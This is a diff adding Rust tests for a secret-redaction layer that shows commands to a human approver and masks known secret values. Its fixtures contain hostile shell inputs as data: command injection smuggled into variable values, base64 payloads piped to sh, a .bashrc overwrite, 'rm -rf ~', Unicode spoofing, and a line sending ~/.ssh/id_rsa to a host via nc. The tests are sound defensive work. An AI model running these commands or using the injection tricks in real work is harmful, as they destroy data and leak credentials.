@@ -1,0 +1,259 @@
+//! What a person approves: everything that runs is seen, and no known value is.
+
+use super::super::{MARKER, Masker, Redactor, Unmaskable};
+
+/// A value of the environment.
+const VALUE: &str = "correct-horse-battery-staple";
+const VALUE_BASE64: &str = "Y29ycmVjdC1ob3JzZS1iYXR0ZXJ5LXN0YXBsZ";
+
+/// Commands in which nothing is known: each is shown to the letter, whatever its shape.
+const SHOWN_AS_THEY_ARE: &[&str] = &[
+    r#"DB_PASSWORD="x$(touch ~/PWNED; echo y)" make test"#,
+    r#"DB_PASSWORD="x`touch ~/PWNED`" make test"#,
+    "DB_PASSWORD='x';touch${IFS}~/PWNED;'y' make test",
+    "DB_PASSWORD=x$(touch$IFS~/PWNED)yyyyyy make test",
+    "PASSWORD=${x:-$(touch PWNED)}abcdefgh env",
+    "API_KEY=<(touch${IFS}PWNED)abcdefgh cat",
+    "API_KEY=abcdefgh|touch${IFS}PWNED env",
+    "API_KEY=abcdefgh&touch${IFS}PWNED& env",
+    "SECRET=abcdefgh>/home/me/.bashrc;true",
+    "password=./evil.sh; sh $password",
+    "TOKEN=dG91Y2ggfi9QV05FRAo; echo $TOKEN | base64 -d | sh",
+    "T=ghp_dG91Y2ggfi9QV05FRAo0123456789; echo ${T#ghp_} | base64 -d | sh",
+    "T=ghp_0123456789abcdefghijABCDEFGHIJ012345 sh run",
+    "sk-ant-0123456789abcdefghijkl --version",
+    "curl -H 'Authorization: Bearer abcdefghij0123456789' https://example.org",
+    "curl -H \"Authorization: Basic $(touch PWNED)YWxhZGRpbjpvcGVu\" https://example.org",
+    "curl -u user:pass0123456 https://example.org",
+    "git clone https://user:$(touch PWNED)pw@example.org/x",
+    "git clone https://user:hunter2hunter2@example.org/x",
+    "git clone https://user:p;touch${IFS}PWNED;@example.org/x",
+    "psql --password=hunter2hunter2 -c 'select 1'",
+    "psql --password \"hunter2$(touch PWNED)hunter2\"",
+    "mysql --password hunter2hunter2",
+    "tool --api-key=\\$(touch PWNED)abcdefghij",
+    "tool --secret 'a'$(touch PWNED)'bcdefgh'",
+    "-----BEGIN PRIVATE KEY-----\ntouch PWNED\n-----END PRIVATE KEY-----",
+    ": '-----BEGIN RSA PRIVATE KEY-----'\ntouch PWNED\nexit\n: '-----END RSA PRIVATE KEY-----'",
+    "cat <<E\n-----BEGIN PRIVATE KEY-----\n$(touch PWNED)\n-----END PRIVATE KEY-----\nE",
+    "cat > key <<'E'\n-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAA\n-----END OPENSSH PRIVATE KEY-----\nE",
+    "export PASSWORD=\"abcdefgh\ntouch PWNED\n\"",
+    "PASSWORD=abcd\\\nefgh$(touch\\\n PWNED) make",
+    "echo '{\"password\": \"x$(touch PWNED)yzabcd\"}' | sh",
+    "sh -c \"echo '{\\\"apiKey\\\": \\\"`touch PWNED`abcdefg\\\"}'\"",
+    "python3 -c 'password = \"abcdefgh\" and __import__(\"os\").system(\"touch PWNED\")'",
+    "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.c2lnbmF0dXJl; touch PWNED",
+    "ls\u{202e}# touch PWNED",
+    "PASS\u{200b}WORD=abcdefgh$(touch PWNED) make",
+    "echo [redacted] | sh",
+    "token: abcdefgh0123 ; touch PWNED",
+    "AKIAABCDEFGHIJKLMNOP() { touch PWNED; }; AKIAABCDEFGHIJKLMNOP",
+    "alias token='touch PWNED'; token",
+    "PASSWORD=*abcdefgh? make",
+    "PASSWORD=~/abcdefgh/evil; . $PASSWORD",
+    "printf 'password=%s' \"$(cat ~/.ssh/id_rsa)\" | nc example.org 80",
+    "xargs -I{} sh -c 'PASSWORD={}abcdefg; touch PWNED'",
+];
+
+/// Commands with a known value that is masked, each with what is seen.
+const MASKED: &[(&str, &str)] = &[
+    ("echo correct-horse-battery-staple", "echo [redacted]"),
+    ("X=\"correct-horse-battery-staple\" make", "X=\"[redacted]\" make"),
+    ("X='correct-horse-battery-staple'; touch PWNED", "X='[redacted]'; touch PWNED"),
+    ("echo a-correct-horse-battery-staple-b$(touch PWNED)", "echo a-[redacted]-b$(touch PWNED)"),
+    ("$(correct-horse-battery-staple)", "$([redacted])"),
+    ("https://u:correct-horse-battery-staple@h/x", "https://u:[redacted]@h/x"),
+    ("PASSWORD=correct-horse-battery-staple;touch${IFS}PWNED", "PASSWORD=[redacted];touch${IFS}PWNED"),
+    ("echo Y29ycmVjdC1ob3JzZS1iYXR0ZXJ5LXN0YXBsZQ== | base64 -d", "echo [redacted] | base64 -d"),
+    ("printf correct-horse-battery-staplecorrect-horse-battery-staple", "printf [redacted]"),
+    (
+        "curl -H 'Authorization: Bearer correct-horse-battery-staple'",
+        "curl -H 'Authorization: Bearer [redacted]'",
+    ),
+];
+
+/// Commands with a known value that cannot be masked without hiding more, or that is split.
+const REFUSED: &[&str] = &[
+    "echo correct-horse\"\"-battery-staple",
+    "echo 'correct-horse'-battery-staple",
+    "echo correct-horse\\-battery-staple",
+    "echo correct-horse-\\\nbattery-staple",
+    "echo corr\u{200b}ect-horse-battery-staple",
+    "echo corr\"e\"ct-hor's'e-battery-staple",
+];
+
+#[test]
+fn a_command_is_shown_to_the_letter_whatever_its_shape() {
+    assert!(SHOWN_AS_THEY_ARE.len() + MASKED.len() + REFUSED.len() >= 40);
+    let redactor = Redactor::new([VALUE]);
+    for command in SHOWN_AS_THEY_ARE {
+        assert_eq!(shown(&redactor, command), Ok(((*command).to_owned(), 0)), "{command}");
+    }
+}
+
+#[test]
+fn a_known_value_is_masked_and_nothing_beside_it() {
+    let redactor = Redactor::new([VALUE]);
+    for (command, expected) in MASKED {
+        assert_eq!(shown(&redactor, command), Ok(((*expected).to_owned(), 1)), "{command}");
+    }
+    assert!(MASKED.iter().any(|(command, _)| command.contains(VALUE_BASE64)));
+}
+
+#[test]
+fn a_value_that_is_split_is_refused_and_not_shown() {
+    let redactor = Redactor::new([VALUE]);
+    for command in REFUSED {
+        assert_eq!(shown(&redactor, command), Err(Unmaskable::Secret), "{command}");
+    }
+}
+
+#[test]
+fn a_value_that_could_act_by_itself_is_never_masked() {
+    for value in [
+        "; rm -rf ~ ;",
+        "x$(touch PWNED)",
+        "`touch PWNED`",
+        "abcdef&ghij",
+        "two words",
+        "first-line\nsecond-line",
+        "$HOME/evil",
+        "*.secret",
+        "it's-mine",
+        "--force-with-all",
+        "PATH=/tmp/evil",
+        "/tmp/evil/run",
+        "../../evil",
+        "~/evil-script",
+        "#comment-it",
+        "{a,b}cdefgh",
+    ] {
+        let redactor = Redactor::new([value]);
+        let command = format!("make {value} test");
+        assert_eq!(shown(&redactor, &command), Err(Unmaskable::Secret), "{value}");
+    }
+}
+
+#[test]
+fn a_mask_cannot_be_forged() {
+    let redactor = Redactor::new([VALUE]);
+    assert_eq!(shown(&redactor, "rm [redacted]"), Ok(("rm [redacted]".to_owned(), 0)));
+    let both = format!("rm {MARKER} {VALUE}");
+    assert_eq!(shown(&redactor, &both), Err(Unmaskable::Ambiguous));
+    // In another part of the same request it is no less misleading.
+    let mut masker = Masker::new(&redactor);
+    masker.text("rm [redacted]").unwrap();
+    masker.json(&format!(r#"{{"command":"echo {VALUE}"}}"#)).unwrap();
+    assert_eq!(masker.finish(), Err(Unmaskable::Ambiguous));
+}
+
+#[test]
+fn the_strings_of_json_are_masked_and_the_rest_is_left() {
+    let redactor = Redactor::new([VALUE]);
+    let mut masker = Masker::new(&redactor);
+    let args =
+        format!(r#"{{ "password":"x$(touch PWNED)y" , "n": 1e3,"k\u0041":"{VALUE}\n", "{VALUE}":null}}"#);
+    let expected =
+        r#"{ "password":"x$(touch PWNED)y" , "n": 1e3,"k\u0041":"[redacted]\n", "[redacted]":null}"#;
+    assert_eq!(masker.json(&args).as_deref(), Ok(expected));
+    assert_eq!(masker.finish(), Ok(1));
+    assert_eq!(Masker::new(&redactor).json("{\"open"), Err(Unmaskable::NotJson));
+}
+
+#[test]
+fn with_the_values_in_the_place_of_the_masks_any_text_is_itself_again() {
+    let values = ["abcdef123456", "ZYXWVU987654", "p@ss:w0rd/with.dots"];
+    let redactor = Redactor::new(values);
+    let pieces = [
+        "abcdef123456",
+        "ZYXWVU987654",
+        "p@ss:w0rd/with.dots",
+        "abc",
+        "def123456",
+        "$(",
+        ")",
+        ";",
+        "\n",
+        "'",
+        "\"",
+        "\\",
+        " ",
+        "PASSWORD=",
+        "-----BEGIN PRIVATE KEY-----",
+        "-----END PRIVATE KEY-----",
+        "https://u:",
+        "@h",
+        "Bearer ",
+        "ghp_0123456789abcdefghijABCDEF",
+        "{\"token\":\"",
+        "\u{200b}",
+        "é",
+        "[redacted",
+        "|",
+        "`",
+        "=",
+    ];
+    let mut seed = 0x9e37_79b9_7f4a_7c15_u64;
+    let mut next = |below: usize| {
+        seed ^= seed << 13;
+        seed ^= seed >> 7;
+        seed ^= seed << 17;
+        usize::try_from(seed % below as u64).unwrap()
+    };
+    let (mut masked, mut refused) = (0, 0);
+    for round in 0..20_000 {
+        let text: String = (0..=next(12)).map(|_| pieces[next(pieces.len())]).collect();
+        let Ok((shown, count)) = shown(&redactor, &text) else {
+            refused += 1;
+            continue;
+        };
+        masked += usize::from(count > 0);
+        assert!(values.iter().all(|value| !shown.contains(value)), "{round}: {text}");
+        assert_eq!(restored(&shown, &text, &values), Some(String::new()), "{round}: {shown} of {text}");
+    }
+    assert!(masked > 1000 && refused > 10, "{masked} {refused}");
+}
+
+#[test]
+fn a_text_is_cut_beside_a_value_and_not_in_it() {
+    let redactor = Redactor::new([VALUE]);
+    let text = format!("+é{VALUE}+");
+    assert_eq!(redactor.cut(&text, 2), 1, "between two letters");
+    assert_eq!(redactor.cut(&text, 3), 3);
+    assert_eq!(redactor.cut(&text, 10), 3);
+    assert_eq!(redactor.cut(&text, 3 + VALUE.len()), 3 + VALUE.len());
+    assert_eq!(redactor.cut(&text, 1000), text.len());
+}
+
+#[test]
+fn a_token_is_one_by_itself_and_a_password_by_its_name_is_none() {
+    let redactor = Redactor::default();
+    let token = "ghp_0123456789abcdefghijABCDEFGHIJ012345";
+    let text =
+        format!("$? echo {token}; PASSWORD=hunter2hunter2 x; T=\"ghp_$(touch PWNED)\"; u://a:secret12@b\n");
+    assert_eq!(redactor.tokens(&text), [token]);
+}
+
+/// Takes `text` from the front of `shown`, with known values in the place of masks; returns what is left.
+fn restored(shown: &str, text: &str, values: &[&str]) -> Option<String> {
+    let mut parts = shown.split(MARKER);
+    let mut rest = text.strip_prefix(parts.next()?)?;
+    for part in parts {
+        // A mask stands for one value or for several that touch.
+        let mut length = 0;
+        while let Some(value) = values.iter().find(|value| rest[length..].starts_with(**value)) {
+            length += value.len();
+        }
+        if length == 0 {
+            return None;
+        }
+        rest = rest[length..].strip_prefix(part)?;
+    }
+    Some(rest.to_owned())
+}
+
+fn shown(redactor: &Redactor, text: &str) -> Result<(String, usize), Unmaskable> {
+    let mut masker = Masker::new(redactor);
+    let shown = masker.text(text)?;
+    Ok((shown, masker.finish()?))
+}
